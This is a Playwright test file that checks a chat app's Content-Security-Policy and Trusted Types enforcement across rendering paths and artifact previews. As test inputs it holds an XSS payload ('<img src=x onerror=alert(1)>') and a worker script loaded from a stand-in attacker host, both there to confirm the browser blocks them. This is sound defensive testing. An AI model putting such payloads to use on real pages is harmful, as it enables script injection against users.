import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { ConsoleMessage, Page } from '@playwright/test';
import { sse } from './fake-anthropic/responses.mjs';
import { configure, expect, send, test } from './support/test';

// The app page runs under a strict policy (issue 15, item 8): no 'unsafe-inline' or 'unsafe-eval' in its
// script-src, and Trusted Types enforced, so only Lit's templates and DOMPurify's output reach HTML sinks and
// only the app's own scripts become workers. These tests read the built page's policy, check that the browser
// enforces it, and go through a chat exchange that touches every path that renders or starts something —
// Markdown, highlighted code, an HTML and a React artifact preview, an image and a PDF attachment — with no
// violation in the app page. (Previews are preview.html, a document with a policy of its own.)

const DIST = process.env.EASEL_DIST ?? 'dist';
const builtIndex = () =>
  readFileSync(fileURLToPath(new URL(`../${DIST}/index.html`, import.meta.url)), 'utf8');

/** The directives of the built index.html's `<meta http-equiv="Content-Security-Policy">`, by name. */
function builtPolicy(): Map<string, string[]> {
  const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/i.exec(builtIndex());
  if (!meta?.[1]) throw new Error(`${DIST}/index.html has no Content-Security-Policy`);
  const directives = new Map<string, string[]>();
  for (const part of meta[1].split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), values);
  }
  return directives;
}

const fixturePath = (name: string) => fileURLToPath(new URL(`./fixtures/files/${name}`, import.meta.url));
const PNG = 'png-hopper-128.png';
const PDF = 'pdf-text-1page-pdflatex.pdf';

interface Violation {
  readonly directive: string;
  readonly blocked: string;
  readonly sample: string;
}

declare global {
  interface Window {
    __policyViolations?: Violation[];
  }
}

/**
 * Records, from before the app's first script runs, every `securitypolicyviolation` in the app page (not in
 * preview frames, which have their own policy), and every console message or uncaught error of the page
 * that speaks of the policy or of Trusted Types.
 */
async function watchPolicy(page: Page, appOrigin: string) {
  await page.addInitScript(() => {
    if (window.top !== window) return;
    const seen: Violation[] = [];
    window.__policyViolations = seen;
    window.addEventListener(
      'securitypolicyviolation',
      (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample }),
      true,
    );
  });
  const policyText = /Content Security Policy|Trusted ?Type|TrustedHTML|TrustedScript/i;
  const messages: string[] = [];
  // Preview frames log from preview.html or from blob:null/… (their opaque origin); the app page from its own
  // origin (or with no location, which counts as the app's here: better a false alarm than a missed one).
  const inAppPage = (url: string) =>
    url === '' || (url.startsWith(appOrigin) && !url.includes('/preview.html'));
  page.on('console', (m: ConsoleMessage) => {
    if (policyText.test(m.text()) && inAppPage(m.location().url)) messages.push(`${m.type()}: ${m.text()}`);
  });
  page.on('pageerror', (error) => {
    if (policyText.test(`${error.name} ${error.message}`)) messages.push(`uncaught: ${error.message}`);
  });
  return {
    messages,
    violations: () => page.evaluate(() => window.__policyViolations ?? []),
  };
}

test('the built page allows no inline or eval script and enforces Trusted Types', () => {
  const policy = builtPolicy();
  const scriptSrc = policy.get('script-src') ?? policy.get('default-src');
  expect(scriptSrc).toBeDefined();
  expect(scriptSrc).not.toContain("'unsafe-inline'");
  expect(scriptSrc).not.toContain("'unsafe-eval'");
  expect(policy.get('default-src')).not.toContain("'unsafe-inline'");
  expect(policy.get('default-src')).not.toContain("'unsafe-eval'");
  expect(policy.get('require-trusted-types-for')).toEqual(["'script'"]);
});

test('the page refuses an HTML string and a worker script from anywhere but its own assets', async ({
  page,
  baseURL,
}) => {
  const watch = await watchPolicy(page, new URL(baseURL ?? '').origin);
  await page.goto('./');
  await expect(page.getByRole('button', { name: 'Settings' })).toBeVisible();
  const outcomes = await page.evaluate(() => {
    const attempt = (run: () => unknown) => {
      try {
        run();
        return 'allowed';
      } catch (error) {
        return error instanceof Error ? error.name : String(error);
      }
    };
    const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
    return {
      innerHTML: attempt(() => {
        document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
      }),
      foreignWorker: attempt(() => new Worker('https://attacker.example/w.js')),
      blobWorker: attempt(() => new Worker(blob)),
      ownScripts: attempt(() =>
        new Worker(new URL('./assets/not-a-worker.js', document.baseURI)).terminate(),
      ),
    };
  });
  expect(outcomes).toEqual({
    innerHTML: 'TypeError',
    foreignWorker: 'TypeError',
    blobWorker: 'TypeError',
    ownScripts: 'allowed',
  });
  // The watch sees what the browser refused: the next test's empty list means something.
  const directives = (await watch.violations()).map((v) => v.directive);
  expect(directives).toEqual([
    'require-trusted-types-for',
    'require-trusted-types-for',
    'require-trusted-types-for',
  ]);
});

const PAGE = [
  '<h1>Counter</h1>',
  '<button id="add">Add</button> <output id="n">0</output>',
  "<script>document.getElementById('add').onclick = () => { n.value = Number(n.value) + 1; };</script>",
].join('\n');

const COMPONENT = `import React, { useState } from 'react';

export default function Greeting() {
  const [name] = useState('policy');
  return <h1>Hello, {name}</h1>;
}
`;

const ANSWER = [
  '## Two files',
  '',
  'Here is **a counter** and *a greeting*, with a [link](https://example.com/).',
  '',
  '```ts',
  'const total: number = [1, 2, 3].reduce((a, b) => a + b, 0);',
  '```',
  '',
  '| file | kind |',
  '|---|---|',
  '| counter.html | page |',
].join('\n');

test('a chat with Markdown, highlighted code, two artifact previews and attachments raises no policy violation', async ({
  page: app,
  anthropic,
  baseURL,
}) => {
  const watch = await watchPolicy(app, new URL(baseURL ?? '').origin);
  await app.goto('./');
  await configure(app, { key: 'sk-ant-test-key', baseUrl: anthropic.baseUrl });

  const chooser = app.waitForEvent('filechooser');
  await app.getByRole('button', { name: 'Attach files' }).click();
  await (await chooser).setFiles([fixturePath(PNG), fixturePath(PDF)]);
  const tray = app.getByRole('list', { name: 'Attachments' });
  await expect(tray.getByRole('button', { name: `Remove ${PNG}` })).toBeVisible();
  await expect(tray.getByRole('button', { name: `Remove ${PDF}` })).toBeVisible();

  await anthropic.reply(
    sse.toolUse({
      name: 'artifacts',
      id: 'toolu_page',
      text: 'First the page:',
      input: { command: 'create', filename: 'counter.html', content: PAGE },
    }),
  );
  await anthropic.reply(
    sse.toolUse({
      name: 'artifacts',
      id: 'toolu_component',
      input: { command: 'create', filename: 'Greeting.jsx', content: COMPONENT },
    }),
  );
  await anthropic.reply(sse.text(ANSWER));
  await send(app, 'Look at these and make me two files');

  const claude = app.getByRole('article', { name: 'Claude' }).last();
  await expect(claude.getByRole('heading', { name: 'Two files' })).toBeVisible();
  await expect(claude.getByRole('table')).toBeVisible();
  // Highlighted: the highlighter has coloured the code (there is no role for a colour).
  await expect(claude.locator('code .hljs-keyword').first()).toHaveText('const');
  await expect(app.getByRole('button', { name: 'Stop' })).toBeHidden();

  const panel = app.getByRole('region', { name: 'Artifacts' });
  const frameOf = (filename: string) => app.getByTitle(`${filename} preview`, { exact: true }).contentFrame();
  await panel.getByRole('tab', { name: 'Greeting.jsx', exact: true }).click();
  await expect(frameOf('Greeting.jsx').getByRole('heading', { name: 'Hello, policy' })).toBeVisible();
  await panel.getByRole('tab', { name: 'counter.html', exact: true }).click();
  const counter = frameOf('counter.html');
  await counter.getByRole('button', { name: 'Add' }).click();
  await expect(counter.getByRole('status')).toHaveText('1');

  // The attachments as sent: their thumbnails, and each one's preview.
  const sent = app.getByRole('article', { name: 'You' }).getByRole('list', { name: 'Attachments' });
  await sent.getByRole('button', { name: `Preview ${PNG}` }).click();
  const imagePreview = app.getByRole('dialog', { name: `Preview of ${PNG}` });
  await expect(imagePreview.getByRole('img', { name: PNG })).toBeVisible();
  await imagePreview.getByRole('button', { name: 'Close' }).click();

  expect(await watch.violations()).toEqual([]);
  expect(watch.messages).toEqual([]);

  // The PDF preview puts a blob: URL in <object data>, a script URL sink: it goes through the preview's own
  // policy, so Trusted Types refuse nothing. (Chromium then loads its PDF viewer as a frame, which the page's
  // frame-src 'self' refuses — a limit of that directive, not of Trusted Types; the link still opens it.)
  await sent.getByRole('button', { name: `Preview ${PDF}` }).click();
  const pdfPreview = app.getByRole('dialog', { name: `Preview of ${PDF}` });
  await expect(pdfPreview.getByRole('link', { name: `Open ${PDF} in a new tab` }).last()).toBeVisible();
  await expect(pdfPreview.locator('object')).toHaveAttribute('data', /^blob:http:\/\/127\.0\.0\.1:\d+\//);
  await pdfPreview.getByRole('button', { name: 'Close' }).click();
  const trustedTypes = (await watch.violations()).filter((v) => v.directive === 'require-trusted-types-for');
  expect(trustedTypes).toEqual([]);
  expect(watch.messages.filter((m) => /Trusted/i.test(m))).toEqual([]);
});
